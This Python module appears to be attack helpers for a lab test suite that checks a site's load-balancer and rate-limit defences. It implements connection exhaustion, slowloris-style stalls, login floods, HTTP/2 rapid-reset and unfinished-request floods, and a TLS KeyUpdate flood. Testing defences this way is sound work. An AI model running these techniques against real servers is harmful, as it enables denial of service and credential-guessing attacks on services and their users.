"""Visitors who mean ill, each from addresses of their own: what they send, and what came back."""

import contextlib
import ctypes
import ctypes.util
import http.client
import json
import resource
import socket
import ssl
import subprocess
import time
from collections import Counter
from collections.abc import Callable, Generator, Iterator, Sequence
from concurrent.futures import ThreadPoolExecutor
from contextlib import ExitStack, contextmanager

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import h2.settings

ANSWER_TIMEOUT = 20.0
"""Seconds that an attacker waits for an answer; longer than any of the load balancer's."""


_FREE = iter(range(1, 255))


@contextmanager
def addresses(count: int) -> Generator[list[str]]:
    """Addresses of this machine, which is the lab's internet, that nobody had before: of the network for documentation (RFC 5737)."""
    found = [f"203.0.113.{next(_FREE)}" for _ in range(count)]
    with ExitStack() as kept:
        for address in found:
            subprocess.run(["ip", "address", "add", f"{address}/32", "dev", "lo"], check=True, timeout=10)
            kept.callback(subprocess.run, ["ip", "address", "del", f"{address}/32", "dev", "lo"], check=False, timeout=10)
        yield found


@contextmanager
def file_limit(count: int) -> Generator[None]:
    """Lets this process have so many files open."""
    before = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (count, max(count, before[1])))
    try:
        yield
    finally:
        resource.setrlimit(resource.RLIMIT_NOFILE, before)


@contextmanager
def silent_connections(site: str, port: int, sources: Sequence[str], count: int) -> Generator[None]:
    """Opens `count` connections from each address, and says nothing on any of them."""
    with ExitStack() as kept:
        for source in sources:
            for _ in range(count):
                with contextlib.suppress(OSError):  # one that is refused is no failure of the attacker's
                    kept.enter_context(socket.create_connection((site, port), ANSWER_TIMEOUT, (source, 0)))
        yield


def _unverified() -> ssl.SSLContext:
    """Of somebody who does not look at the certificate, which is the lab's own."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    return context


def tls_connection(site: str, source: str, protocols: Sequence[str] = ("http/1.1",)) -> ssl.SSLSocket:
    """A TLS connection from one address."""
    context = _unverified()
    context.set_alpn_protocols(list(protocols))
    return context.wrap_socket(socket.create_connection((site, 443), ANSWER_TIMEOUT, (source, 0)))


@contextmanager
def stalled_connections(site: str, sources: Sequence[str], count: int, *, head: bytes) -> Generator[list[ssl.SSLSocket]]:
    """Connections that send `head` and then neither send nor read anything."""
    with ExitStack() as kept:
        opened: list[ssl.SSLSocket] = []
        for source in sources:
            for _ in range(count):
                connection = kept.enter_context(tls_connection(site, source))
                connection.sendall(head)
                opened.append(connection)
        yield opened


def log_ins(site: str, source: str, paths: Sequence[str], *, email: str | None = None) -> list[tuple[int, str | None]]:
    """Tries to log in at each path, one after the other, without an account where no `email` is given; the statuses and Retry-Afters.

    A try for which there was no connection in time has the status 0.
    """
    context = _unverified()
    found: list[tuple[int, str | None]] = []
    for path in paths:
        caller = http.client.HTTPSConnection(site, timeout=ANSWER_TIMEOUT, context=context, source_address=(source, 0))
        body = json.dumps({"email": email, "password": "a password that nobody has"} if email else {})
        with contextlib.closing(caller):
            try:
                caller.request("POST", path, body=body, headers={"Content-Type": "application/json"})
                answer = caller.getresponse()
                answer.read()
            except OSError:
                found.append((0, None))
            else:
                found.append((answer.status, answer.headers.get("Retry-After")))
    return found


def log_in_flood(site: str, sources: Sequence[str], *, clients: int, tries: int) -> list[tuple[int, str | None]]:
    """So many clients at once, spread over the addresses, each trying so often."""
    with ThreadPoolExecutor(clients) as pool:
        runs = [
            pool.submit(log_ins, site, sources[number % len(sources)], ["/api/session"] * tries, email=f"nobody-{number}@example.com")
            for number in range(clients)
        ]
        return [answer for run in runs for answer in run.result()]


def streams(site: str, source: str, path: str, count: int, *, reset: bool) -> Counter[str]:
    """Asks for `path` on `count` streams of one HTTP/2 connection, as many at once as it takes; with `reset` it takes each back at once.

    How often each status came, `refused` for a stream that the server reset, and `closed` where it ended the connection.
    """
    found: Counter[str] = Counter()
    with tls_connection(site, source, ["h2"]) as line:
        client = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        client.initiate_connection()
        line.sendall(client.data_to_send())
        names = [(":method", "GET"), (":path", path), (":scheme", "https"), (":authority", site)]
        sent = ended = 0
        try:
            while ended < count:
                while sent < count and (reset or client.open_outbound_streams < 100):
                    stream = client.get_next_available_stream_id()
                    client.send_headers(stream, names, end_stream=True)
                    if reset:
                        client.reset_stream(stream)
                    sent += 1
                line.sendall(client.data_to_send())
                if reset and sent == count:
                    break
                ended += _receive(client, line, found)
        except (OSError, h2.exceptions.ProtocolError):
            found["closed"] += 1
    return found


@contextmanager
def unfinished_requests(site: str, source: str, path: str, count: int, *, answered: bool = False) -> Generator[Callable[[], Counter[str]]]:
    """Begins `count` requests from one address, a hundred on each connection of HTTP/2, and never ends the body of any; with `answered` it
    ends them and takes no byte of any answer's body.

    Gives what tells how often each status has come so far.
    """
    found: Counter[str] = Counter()
    with ExitStack() as kept:
        opened: list[tuple[h2.connection.H2Connection, ssl.SSLSocket]] = []
        while count > 0:
            line = kept.enter_context(tls_connection(site, source, ["h2"]))
            client = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
            client.initiate_connection()
            if answered:
                client.update_settings({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0})
            names = [(":method", "POST"), (":path", path), (":scheme", "https"), (":authority", site), ("content-type", "application/json")]
            for _ in range(min(count, 100)):
                stream = client.get_next_available_stream_id()
                client.send_headers(stream, names)
                client.send_data(stream, b"{}" if answered else b"x", end_stream=answered)
            count -= 100
            line.sendall(client.data_to_send())
            line.settimeout(0)
            opened.append((client, line))

        def answers() -> Counter[str]:
            for client, line in opened:
                with contextlib.suppress(ssl.SSLWantReadError, BlockingIOError, ConnectionResetError):
                    while True:
                        _receive(client, line, found)
            return found

        yield answers


def _receive(client: h2.connection.H2Connection, line: ssl.SSLSocket, found: Counter[str]) -> int:
    """Takes in what has come; how many streams ended with it. Raises OSError where the server has closed the connection."""
    data = line.recv(65536)
    if not data:
        raise ConnectionResetError("closed")
    ended = 0
    for event in client.receive_data(data):
        match event:
            case h2.events.ResponseReceived():
                found[str(dict(event.headers)[b":status"].decode())] += 1
            case h2.events.StreamEnded():
                ended += 1
            case h2.events.StreamReset():
                found["refused"] += 1
                ended += 1
            case h2.events.DataReceived():
                client.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
            case h2.events.ConnectionTerminated():
                raise ConnectionResetError("closed")
            case _:
                pass
    return ended


def _openssl() -> ctypes.CDLL:
    """OpenSSL itself: Python's `ssl` has no call for a KeyUpdate. What it links to finds libcrypto's names too."""
    library = ctypes.CDLL(ctypes.util.find_library("ssl") or "libssl.so.3")
    pointer = ctypes.c_void_p
    for name, result, arguments in (
        ("TLS_client_method", pointer, []),
        ("SSL_CTX_new", pointer, [pointer]),
        ("SSL_CTX_free", None, [pointer]),
        ("SSL_new", pointer, [pointer]),
        ("SSL_free", None, [pointer]),
        ("SSL_set_fd", ctypes.c_int, [pointer, ctypes.c_int]),
        ("SSL_connect", ctypes.c_int, [pointer]),
        ("SSL_write", ctypes.c_int, [pointer, ctypes.c_char_p, ctypes.c_int]),
        ("SSL_read", ctypes.c_int, [pointer, ctypes.c_char_p, ctypes.c_int]),
        ("SSL_set0_wbio", None, [pointer, pointer]),
        ("SSL_key_update", ctypes.c_int, [pointer, ctypes.c_int]),
        ("SSL_do_handshake", ctypes.c_int, [pointer]),
        ("BIO_s_mem", pointer, []),
        ("BIO_new", pointer, [pointer]),
        ("BIO_read", ctypes.c_int, [pointer, ctypes.c_char_p, ctypes.c_int]),
    ):
        function = getattr(library, name)
        function.restype, function.argtypes = result, arguments
    return library


def key_updates(site: str, source: str, count: int, *, seconds: float) -> int:
    """Says `count` times on one connection that its keys change (RFC 8446, section 4.6.3), as fast as the line takes it: made first, then
    sent. Ends after so many seconds, or where the server ends the connection; the bytes that it could send.
    """
    library = _openssl()
    context = library.SSL_CTX_new(library.TLS_client_method())
    with socket.create_connection((site, 443), ANSWER_TIMEOUT, (source, 0)) as line:
        line.settimeout(None)  # OpenSSL's calls wait
        client = library.SSL_new(context)
        try:
            library.SSL_set_fd(client, line.fileno())
            if library.SSL_connect(client) != 1:
                raise ConnectionError("no TLS")
            # After its first answer a connection may be silent for a minute: so long there is for making the flood.
            request = b"GET /static/shop.css HTTP/1.1\r\nHost: shop\r\n\r\n"
            if (
                library.SSL_write(client, request, len(request)) != len(request)
                or library.SSL_read(client, ctypes.create_string_buffer(1000), 1000) <= 0
            ):
                raise ConnectionError("no answer")
            memory = library.BIO_new(library.BIO_s_mem())
            library.SSL_set0_wbio(client, memory)
            for _ in range(count):
                if library.SSL_key_update(client, 0) != 1 or library.SSL_do_handshake(client) != 1:
                    raise ConnectionError("TLS 1.3 was not agreed on")
            made = ctypes.create_string_buffer(64 * count)
            flood = memoryview(made)[: library.BIO_read(memory, made, len(made))]
            sent, end = 0, time.monotonic() + seconds
            line.settimeout(0.5)
            with contextlib.suppress(ConnectionError):
                while sent < len(flood) and time.monotonic() < end:
                    with contextlib.suppress(TimeoutError):
                        sent += line.send(flood[sent : sent + 262_144])
            return sent
        finally:
            library.SSL_free(client)
            library.SSL_CTX_free(context)


def are_closed(connections: Sequence[ssl.SSLSocket]) -> Iterator[bool]:
    """Of each connection whether the server has ended it; what it had sent is read away."""
    for connection in connections:
        connection.settimeout(0)
        try:
            while connection.recv(65536):
                pass
            yield True
        except (ssl.SSLWantReadError, BlockingIOError):
            yield False
        except OSError:
            yield True
